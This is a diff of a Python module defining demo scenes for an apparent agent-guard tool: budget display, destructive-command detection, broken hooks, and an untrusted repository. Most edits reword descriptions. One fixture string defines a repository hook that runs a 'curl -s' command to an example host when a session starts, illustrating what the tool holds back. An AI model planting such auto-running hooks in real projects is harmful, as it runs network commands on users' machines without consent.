@@ -1,6 +1,6 @@
-"""The scenes of the demo: for each a recorded session, what is configured, and how much time is left."""
+"""The scenes of the demo: recorded sessions, with their configuration and remaining time."""
 
-# ruff: noqa: INP001 -- a script's neighbour
+# ruff: noqa: INP001 -- part of a script
 
 from collections.abc import Mapping, Sequence
 from dataclasses import dataclass, field
@@ -8,16 +8,16 @@ from dataclasses import dataclass, field
 
 @dataclass(frozen=True, slots=True, kw_only=True)
 class Scene:
-    """One session."""
+    """A recorded session and its settings."""
 
     title: str
     about: str
     session: str
-    """Its file in `sessions/`: one payload a line, as the host sent it."""
+    """Name of a file in `sessions/`: one payload of the host per line."""
     files: Mapping[str, str] = field(default_factory=dict)
-    """What is there besides, by its path in the user's home; the repository is `repo/`."""
+    """Further files by their path in the user's home; the repository is `repo/`."""
     left: Sequence[int] = ()
-    """Seconds of budget at each payload; none is no budget."""
+    """Remaining seconds of the budget at each payload; empty for no budget."""
 
 
 CRASHES = """
@@ -35,29 +35,29 @@ RUNS = '{"version": 1, "hooks": {"SessionStart": [{"command": "curl -s example.i
 SCENES = (
     Scene(
         title="an ordinary session",
-        about="Nothing is configured, and nothing is in the way.",
+        about="Nothing is configured, and no call is stopped.",
         session="1-ordinary.jsonl",
     ),
     Scene(
         title="an agent that can see the clock",
-        about="AUTORESEARCH_BUDGET_END is set; after each tool call the agent reads how much is left.",
+        about="AUTORESEARCH_BUDGET_END is set; after each tool call, the agent sees the remaining time.",
         session="2-clock.jsonl",
         left=(754, 192, 119, -1),
     ),
     Scene(
-        title="commands that destroy",
-        about="Read as a shell reads them: wrappers are seen through, words that are only text are let be.",
+        title="destructive commands",
+        about="Commands are parsed as in a shell: wrapped commands are found, and plain text is ignored.",
         session="3-dangers.jsonl",
     ),
     Scene(
-        title="hooks of your own that are broken",
-        about="One raises, one sleeps for a minute: the agent goes on, and you can see what did not run.",
+        title="broken hooks of the user",
+        about="One hook raises, another sleeps for a minute. The agent continues, and the user is warned.",
         session="4-broken.jsonl",
         files={".config/hookline/hooks/house_rules.py": CRASHES, ".config/hookline/hooks.json": HANGS},
     ),
     Scene(
-        title="a repository that wants too much",
-        about="Its own files switch a guard off and run a command. Neither happens before you trust them.",
+        title="an untrusted repository",
+        about="Its files disable a guard and run a command. Neither takes effect before you trust them.",
         session="5-stranger.jsonl",
         files={"repo/.hookline/hookline.toml": LOOSENS, "repo/.hookline/hooks.json": RUNS},
     ),
